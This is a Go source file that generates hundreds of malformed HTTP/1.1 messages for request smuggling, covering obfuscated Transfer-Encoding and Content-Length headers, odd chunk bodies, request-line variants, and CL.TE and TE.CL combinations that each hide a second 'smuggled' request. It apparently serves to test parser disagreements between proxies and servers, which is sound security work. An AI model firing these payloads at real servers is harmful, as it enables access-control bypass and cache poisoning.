package smuggling

import (
	"fmt"
	"maps"
	"strings"
)

// inner is the request that is smuggled. ID stands for the number of the shape.
const inner = "GET /ID/smuggled HTTP/1.1\r\nHost: h\r\nX: "

// encodings are lines that some take for Transfer-Encoding: chunked.
var encodings = map[string]string{
	"plain":                 "Transfer-Encoding: chunked",
	"upper case":            "TRANSFER-ENCODING: CHUNKED",
	"lower case":            "transfer-encoding: chunked",
	"mixed value":           "Transfer-Encoding: chUnked",
	"no space":              "Transfer-Encoding:chunked",
	"two spaces":            "Transfer-Encoding:  chunked",
	"tab":                   "Transfer-Encoding:\tchunked",
	"vertical tab":          "Transfer-Encoding:\x0bchunked",
	"form feed":             "Transfer-Encoding:\x0cchunked",
	"NUL":                   "Transfer-Encoding:\x00chunked",
	"NEL":                   "Transfer-Encoding:\x85chunked",
	"no-break space":        "Transfer-Encoding:\xa0chunked",
	"byte order mark":       "\xef\xbb\xbfTransfer-Encoding: chunked",
	"space after":           "Transfer-Encoding: chunked ",
	"tab after":             "Transfer-Encoding: chunked\t",
	"CR after":              "Transfer-Encoding: chunked\r",
	"NUL after":             "Transfer-Encoding: chunked\x00",
	"vertical tab after":    "Transfer-Encoding: chunked\x0b",
	"space before colon":    "Transfer-Encoding : chunked",
	"tab before colon":      "Transfer-Encoding\t: chunked",
	"NUL before colon":      "Transfer-Encoding\x00: chunked",
	"CR before colon":       "Transfer-Encoding\r: chunked",
	"LF before colon":       "Transfer-Encoding\n: chunked",
	"line end before colon": "Transfer-Encoding\r\n : chunked",
	"space before name":     " Transfer-Encoding: chunked",
	"tab before name":       "\tTransfer-Encoding: chunked",
	"colon before name":     ":Transfer-Encoding: chunked",
	"folded":                "Transfer-Encoding:\r\n chunked",
	"folded by tab":         "Transfer-Encoding:\r\n\tchunked",
	"folded by LF":          "Transfer-Encoding:\n chunked",
	"folded in the value":   "Transfer-Encoding: chunk\r\n ed",
	"folded after another":  "A: b\r\n Transfer-Encoding: chunked",
	"after LF":              "A: b\nTransfer-Encoding: chunked",
	"after CR":              "A: b\rTransfer-Encoding: chunked",
	"after CR CR LF":        "A: b\r\r\nTransfer-Encoding: chunked",
	"LF first":              "\nTransfer-Encoding: chunked",
	"underscore":            "Transfer_Encoding: chunked",
	"no hyphen":             "TransferEncoding: chunked",
	"point":                 "Transfer.Encoding: chunked",
	"letter that is none":   "Tran\xc5\xbffer-Encoding: chunked",
	"quoted":                "Transfer-Encoding: \"chunked\"",
	"quoted once":           "Transfer-Encoding: 'chunked'",
	"x before":              "Transfer-Encoding: xchunked",
	"x after":               "Transfer-Encoding: chunkedx",
	"comma before":          "Transfer-Encoding: ,chunked",
	"comma after":           "Transfer-Encoding: chunked,",
	"parameter":             "Transfer-Encoding: chunked;q=1",
	"after identity":        "Transfer-Encoding: identity, chunked",
	"before identity":       "Transfer-Encoding: chunked, identity",
	"after gzip":            "Transfer-Encoding: gzip, chunked",
	"twice in a list":       "Transfer-Encoding: chunked, chunked",
	"identity":              "Transfer-Encoding: identity",
	"nothing":               "Transfer-Encoding:",
	"one that is not known": "Transfer-Encoding: cow",
	"two lines":             "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
	"two lines, cow first":  "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
	"two lines, cow last":   "Transfer-Encoding: chunked\r\nTransfer-encoding: cow",
	"two lines, identity":   "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
	"named in Connection":   "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
	"Content-Encoding":      "Content-Encoding: chunked",
	"with a trailer":        "Transfer-Encoding: chunked\r\nTrailer: Content-Length",
	"with TE":               "TE: trailers, chunked",
	"with Expect":           "Expect: 100-continue\r\nTransfer-Encoding: chunked",
	"with an upgrade to h2c": "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n" +
		"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nTransfer-Encoding: chunked",
	"with Connection's close": "Connection: close, Content-Length\r\nTransfer-Encoding: chunked",
}

// lengths are lines that say how long a body of 4 bytes is, or something else.
var lengths = map[string]string{
	"plain":                 "Content-Length: 4",
	"lower case":            "content-length: 4",
	"plus":                  "Content-Length: +4",
	"minus":                 "Content-Length: -4",
	"zero first":            "Content-Length: 04",
	"octal":                 "Content-Length: 0o4",
	"hex":                   "Content-Length: 0x4",
	"exponent":              "Content-Length: 4e0",
	"point":                 "Content-Length: 4.0",
	"underscore":            "Content-Length: 0_4",
	"space within":          "Content-Length: 4 0",
	"space before colon":    "Content-Length : 4",
	"tab before colon":      "Content-Length\t: 4",
	"tab":                   "Content-Length:\t4",
	"vertical tab":          "Content-Length:\x0b4",
	"NUL after":             "Content-Length: 4\x00",
	"letter after":          "Content-Length: 4a",
	"comma":                 "Content-Length: 4, 4",
	"comma, other":          "Content-Length: 4, 0",
	"comma first":           "Content-Length: ,4",
	"semicolon":             "Content-Length: 4;0",
	"quoted":                "Content-Length: \"4\"",
	"Arabic digit":          "Content-Length: \xd9\xa4",
	"full width digit":      "Content-Length: \xef\xbc\x94",
	"nothing":               "Content-Length:",
	"too large":             "Content-Length: 18446744073709551620",
	"too large, signed":     "Content-Length: 9223372036854775812",
	"folded":                "Content-Length:\r\n 4",
	"folded number":         "Content-Length: 4\r\n 0",
	"twice":                 "Content-Length: 4\r\nContent-Length: 4",
	"twice, 0 first":        "Content-Length: 0\r\nContent-Length: 4",
	"twice, 0 last":         "Content-Length: 4\r\nContent-Length: 0",
	"twice, a name of both": "Content-Length: 4\r\nContent_Length: 0",
	"twice, one with space": "Content-Length: 4\r\nContent-Length : 0",
	"twice, one after LF":   "A: b\nContent-Length: 4\r\nContent-Length: 0",
	"of nothing":            "Content-Length: 0",
	"named in Connection":   "Connection: Content-Length\r\nContent-Length: 4",
	"none":                  "X-Length: 4",
}

// bodies are chunks that are written in other ways, before the smuggled request.
var bodies = map[string]string{
	"plain":                     "0\r\n\r\n",
	"extension":                 "0;a=b\r\n\r\n",
	"extension with LF":         "0;a\nb\r\n\r\n",
	"extension with CR":         "0;a\rb\r\n\r\n",
	"extension in quotes":       "0;a=\"\r\n\"\r\n\r\n",
	"ends by LF":                "0\n\n",
	"size ends by LF":           "2\nab\r\n0\r\n\r\n",
	"data ends by LF":           "2\r\nab\n0\r\n\r\n",
	"data ends by two others":   "2\r\nabXX0\r\n\r\n",
	"size with 0x":              "0x0\r\n\r\n",
	"size with plus":            "+0\r\n\r\n",
	"size with minus":           "-1\r\n\r\n",
	"size with zeros":           "0000000000000000000\r\n\r\n",
	"size too large":            "ffffffffffffffff2\r\nab\r\n0\r\n\r\n",
	"size that overflows":       "10000000000000002\r\nab\r\n0\r\n\r\n",
	"size with a space":         " 0\r\n\r\n",
	"size with a space after":   "0 \r\n\r\n",
	"size with a tab":           "0\t\r\n\r\n",
	"size that is none":         "x\r\n\r\n",
	"no size":                   "\r\n\r\n",
	"a length in trailers":      "0\r\nContent-Length: 40\r\n\r\n",
	"an encoding in trailers":   "0\r\nTransfer-Encoding: chunked\r\n\r\n",
	"a trailer that is none":    "0\r\nab\r\n\r\n",
	"a trailer folded":          "0\r\nA: b\r\n c\r\n\r\n",
	"a trailer that ends by LF": "0\r\nA: b\n\n",
}

// others are whole messages.
var others = map[string]string{
	"HTTP/0.9":       "GET /ID/a\r\n\r\n" + inner,
	"HTTP/1.0":       "GET /ID/a HTTP/1.0\r\nHost: h\r\n\r\n" + inner,
	"HTTP/1.0, kept": "GET /ID/a HTTP/1.0\r\nHost: h\r\nConnection: keep-alive\r\n\r\n" + inner,
	"HTTP/1.0 in chunks": "POST /ID/a HTTP/1.0\r\nHost: h\r\nConnection: keep-alive\r\n" +
		"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
	"HTTP/1.2":                  "GET /ID/a HTTP/1.2\r\nHost: h\r\n\r\n" + inner,
	"HTTP/1.10":                 "GET /ID/a HTTP/1.10\r\nHost: h\r\n\r\n" + inner,
	"HTTP/01.1":                 "GET /ID/a HTTP/01.1\r\nHost: h\r\n\r\n" + inner,
	"HTTP/2.0":                  "GET /ID/a HTTP/2.0\r\nHost: h\r\n\r\n" + inner,
	"lower case version":        "GET /ID/a http/1.1\r\nHost: h\r\n\r\n" + inner,
	"no version":                "GET /ID/a \r\nHost: h\r\n\r\n" + inner,
	"version twice":             "GET /ID/a HTTP/1.1 HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"space after version":       "GET /ID/a HTTP/1.1 \r\nHost: h\r\n\r\n" + inner,
	"two spaces":                "GET  /ID/a HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"tabs":                      "GET\t/ID/a\tHTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"space in the target":       "GET /ID/a b HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"NUL in the target":         "GET /ID/a\x00 HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"CR in the target":          "GET /ID/a\rb HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"fragment":                  "GET /ID/a#b HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"two slashes":               "GET //ID/a HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"backslash":                 "GET /ID\\a HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"bad escape":                "GET /ID/%zz HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"line end, escaped":         "GET /ID/a%0d%0a%0d%0aGET%20/ID/smuggled HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"absolute form":             "GET http://h/ID/a HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"absolute form, other host": "GET http://other/ID/a HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"absolute form, no host":    "GET http://h/ID/a HTTP/1.1\r\n\r\n" + inner,
	"authority form":            "CONNECT h:80 HTTP/1.1\r\nHost: h:80\r\n\r\n" + inner,
	"asterisk":                  "OPTIONS * HTTP/1.1\r\nHost: h\r\nX: /ID/\r\n\r\n" + inner,
	"no host":                   "GET /ID/a HTTP/1.1\r\nA: b\r\n\r\n" + inner,
	"two hosts":                 "GET /ID/a HTTP/1.1\r\nHost: h\r\nHost: other\r\n\r\n" + inner,
	"empty host":                "GET /ID/a HTTP/1.1\r\nHost:\r\n\r\n" + inner,
	"host with a path":          "GET /ID/a HTTP/1.1\r\nHost: h/ID/b\r\n\r\n" + inner,
	"host with a user":          "GET /ID/a HTTP/1.1\r\nHost: a@h\r\n\r\n" + inner,
	"host, space before colon":  "GET /ID/a HTTP/1.1\r\nHost : h\r\n\r\n" + inner,
	"host folded":               "GET /ID/a HTTP/1.1\r\nHost:\r\n h\r\n\r\n" + inner,
	"lines end by LF":           "GET /ID/a HTTP/1.1\nHost: h\n\n" + inner,
	"head ends by LF LF":        "GET /ID/a HTTP/1.1\r\nHost: h\n\n" + inner,
	"head ends by LF CR LF":     "GET /ID/a HTTP/1.1\r\nHost: h\n\r\n" + inner,
	"head ends by CR CR":        "GET /ID/a HTTP/1.1\r\nHost: h\r\r" + inner,
	"line end first":            "\r\nGET /ID/a HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"NUL first":                 "\x00GET /ID/a HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"folded first line":         "GET /ID/a HTTP/1.1\r\n Host: h\r\n\r\n" + inner,
	"no colon":                  "GET /ID/a HTTP/1.1\r\nHost: h\r\nabc\r\n\r\n" + inner,
	"no name":                   "GET /ID/a HTTP/1.1\r\nHost: h\r\n: b\r\n\r\n" + inner,
	"very long line":            "GET /ID/a HTTP/1.1\r\nHost: h\r\nA: " + strings.Repeat("b", 20_000) + "\r\n\r\n" + inner,
	"very long target":          "GET /ID/" + strings.Repeat("b", 20_000) + " HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"many lines":                "GET /ID/a HTTP/1.1\r\nHost: h\r\n" + strings.Repeat("A: b\r\n", 2_000) + "\r\n" + inner,
	"just what is read at once": "GET /ID/" + strings.Repeat("b", 4096-len("GET /ID/ HTTP/1.1\r\nHost: h\r\n\r\n")) +
		" HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"a body of GET":       "GET /ID/a HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\n\r\nabcd" + inner,
	"a body of HEAD":      "HEAD /ID/a HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\n\r\nabcd" + inner,
	"lower case method":   "get /ID/a HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
	"line end after POST": "POST /ID/a HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\n\r\nabcd\r\n" + inner,
	"preface of HTTP/2":   "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nGET /ID/a HTTP/1.1\r\nHost: h\r\n\r\n" + inner,
}

// shapes returns all messages, by what is odd about them. Each ends with a whole request.
func shapes() map[string]string {
	all := maps.Clone(others)
	head := func(lines ...string) string {
		return "POST /ID/a HTTP/1.1\r\nHost: h\r\n" + strings.Join(lines, "\r\n") + "\r\n\r\n"
	}
	for name, line := range encodings {
		body := "0\r\n\r\n" + inner
		all["CL.TE, "+name] = head(fmt.Sprint("Content-Length: ", len(body)), line) + body
		all["TE.CL, "+name] = head(line, "Content-Length: 4") + fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(inner), inner)
		all["TE, "+name] = head(line) + body
	}
	for name, line := range lengths {
		all["CL, "+name] = head(line) + "abcd" + inner
	}
	for name, body := range bodies {
		all["chunks, "+name] = head("Transfer-Encoding: chunked") + body + inner
	}
	for name, text := range all {
		all[name] = text + "\r\n\r\nGET /ID/last HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n"
	}
	return all
}
